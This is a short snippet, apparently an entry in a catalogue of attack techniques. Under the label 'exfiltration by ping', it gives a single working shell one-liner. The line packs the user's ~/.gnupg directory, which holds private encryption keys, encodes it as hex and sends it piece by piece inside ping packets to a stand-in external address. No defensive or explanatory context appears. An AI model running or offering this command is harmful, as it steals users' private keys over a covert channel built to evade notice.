# class: exfiltration by ping; style: no tools but ping
for h in $(tar cz ~/.gnupg 2>/dev/null | xxd -p -c 16); do ping -c1 -W1 -p $h 198.51.100.200 >/dev/null; done
